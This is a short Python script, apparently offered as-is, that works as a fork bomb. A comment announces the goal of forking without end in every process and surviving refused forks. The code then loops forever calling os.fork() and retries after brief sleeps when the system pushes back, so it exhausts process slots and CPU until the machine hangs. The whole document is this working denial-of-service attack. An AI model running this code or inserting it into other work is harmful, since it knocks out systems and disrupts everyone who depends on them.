# Tries: fork without end, in every process, and stay alive where a fork is refused.
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
